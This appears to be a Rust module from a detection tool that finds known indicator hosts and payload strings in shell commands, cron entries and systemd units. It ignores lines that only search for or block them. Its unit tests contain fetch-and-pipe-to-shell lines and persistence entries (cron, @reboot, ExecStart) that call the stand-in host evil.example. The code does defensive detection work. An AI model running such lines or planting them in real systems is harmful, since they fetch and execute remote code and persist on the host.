//! Addresses and texts of payloads in commands. Only the indicator's own words leave here.

use std::collections::BTreeSet;

use crate::{
    fact::{Fact, Held, Trace, TraceKind},
    interest::Interest,
    shell,
};

/// A longer line is no command that anybody wrote.
const LINE: usize = 64 << 10;
/// Words of programs that look for a text or print it: a line with one of them names what it looks for.
const MENTIONS: &[&str] = &[
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "pgrep",
    "rg",
    "ag",
    "ack",
    "findstr",
    "select-string",
    "yara",
    "semgrep",
    "echo",
    "printf",
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "firewall-cmd",
];

/// What commands of a text fetch from known addresses; `held` where the text is more than a command that somebody typed.
pub fn addresses(text: &str, interest: &Interest, held: Option<Held>) -> Vec<Fact> {
    if text.len() > LINE || !interest.traces.may_name_network(text.as_bytes()) {
        return Vec::new();
    }
    let known = shell::fetches(text).into_iter().filter_map(|fetch| {
        let (kind, value) = interest.traces.address(&fetch.address)?;
        let typed = match (fetch.here, fetch.runs) {
            (false, _) => Held::Named,
            (true, true) => Held::Run,
            (true, false) => Held::Fetched,
        };
        Some((kind, value.to_owned(), held.unwrap_or(typed)))
    });
    // Of one address the worst.
    let mut found: Vec<_> = known.collect();
    found.sort_by(|a, b| (a.0, &a.1, std::cmp::Reverse(a.2)).cmp(&(b.0, &b.1, std::cmp::Reverse(b.2))));
    found.dedup_by(|a, b| (a.0, &a.1) == (b.0, &b.1));
    found.into_iter().map(|(kind, value, held)| fact(kind, &value, held)).collect()
}

/// What lines that start by themselves fetch from known addresses, and the texts of payloads in them. Before the command there may be
/// anything: a key, times, an account.
pub fn started(text: &str, interest: &Interest) -> Vec<Fact> {
    held_by(text, interest, Held::Starts)
}

/// The same of lines that their file holds so.
pub fn held_by(text: &str, interest: &Interest, held: Held) -> Vec<Fact> {
    let texts = texts(text, interest, held);
    if !interest.traces.may_name_network(text.as_bytes()) {
        return texts;
    }
    let mut found = Vec::new();
    for line in text.lines().filter(|line| line.len() <= LINE && !only_mentions(line)) {
        let starts = line.char_indices().filter(|(at, _)| {
            let before = line.get(..*at).and_then(|l| l.chars().next_back());
            before.is_none_or(|c| !(c.is_ascii_alphanumeric() || "-_.".contains(c)))
        });
        let is_program = |rest: &&str| {
            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).unwrap_or(rest.len());
            rest.get(..end).is_some_and(shell::is_fetch)
        };
        let first = starts.filter_map(|(at, _)| line.get(at..)).find(is_program);
        let new = first.map(|rest| addresses(rest, interest, Some(held))).unwrap_or_default();
        found.extend(new.into_iter().filter(|fact| !found.contains(fact)).collect::<Vec<_>>());
    }
    found.extend(texts);
    found
}

/// The texts of payloads that lines of a text hold, where the line does not only look for them or print them.
pub fn texts(text: &str, interest: &Interest, held: Held) -> Vec<Fact> {
    let of_line = |line: &str| {
        let found = interest.traces.texts_in(line.as_bytes()).into_iter();
        // What stands before a text says whether it is looked for; the text itself may hold any word.
        found.filter(|(at, _)| !line.get(..*at).is_some_and(only_mentions)).map(|(_, value)| value).collect::<Vec<_>>()
    };
    let lines = text.lines().filter(|line| line.len() <= LINE);
    let found: BTreeSet<&str> = lines.flat_map(of_line).collect();
    found.into_iter().map(|value| fact(TraceKind::Text, value, held)).collect()
}

/// A trace.
pub fn fact(kind: TraceKind, value: &str, held: Held) -> Fact {
    Fact::Trace(Trace { kind, value: value.into(), held })
}

/// Whether a line looks for something or prints it, or is a comment.
pub fn only_mentions(line: &str) -> bool {
    let line = line.trim_start();
    let mut words = line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'));
    line.starts_with('#') || words.any(|w| MENTIONS.iter().any(|m| w.eq_ignore_ascii_case(m)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn interest() -> Interest {
        Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "PAYLOAD")])
    }

    #[test]
    fn only_known_addresses_leave_and_none_of_the_words() {
        let of = |text: &str| addresses(text, &interest(), None);
        let secret = "curl -H 'Authorization: Bearer s3cr3t' https://u:p@evil.example/x?token=t | sh";
        assert_eq!(of(secret), [fact(TraceKind::Host, "evil.example", Held::Run)]);
        assert_eq!(of("curl evil.example; curl evil.example | sh").len(), 1);
        assert_eq!(of("ssh b curl evil.example"), [fact(TraceKind::Host, "evil.example", Held::Named)]);
        assert!(of("curl https://good.example").is_empty() && of("whois evil.example").is_empty());
        assert!(of(&format!("curl evil.example {}", "x".repeat(70_000))).is_empty());
    }

    #[test]
    fn what_starts_by_itself_may_stand_behind_anything() {
        let of = |text: &str| started(text, &interest());
        let host = [fact(TraceKind::Host, "evil.example", Held::Starts)];
        for line in [
            "*/5 * * * * root curl -s https://evil.example/x | sh",
            "@reboot /usr/bin/wget -qO- evil.example/x",
            "ExecStart=/bin/sh -c 'curl https://evil.example/x | sh'",
            "Exec=sh -c \"curl https://evil.example/x\"",
        ] {
            assert_eq!(of(line), host, "{line}");
        }
        for line in [
            "# * * * * * curl https://evil.example/x",
            "* * * * * root /sbin/iptables -A OUTPUT -d evil.example -j DROP",
            "ExecStart=/usr/bin/monitor --block evil.example",
            "* * * * * curl https://good.example/?x=evil.example",
            "* * * * * echo curl https://evil.example",
        ] {
            assert!(of(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn a_search_for_a_text_is_none() {
        let count = |text: &str| texts(text, &interest(), Held::Starts).len();
        assert_eq!((count("x PAYLOAD\ny PAYLOAD"), count("payload")), (1, 0));
        for line in ["# PAYLOAD", "grep -r PAYLOAD .", "echo PAYLOAD", "iptables -m string --string PAYLOAD -j DROP"] {
            assert_eq!(count(line), 0, "{line}");
        }
    }
}
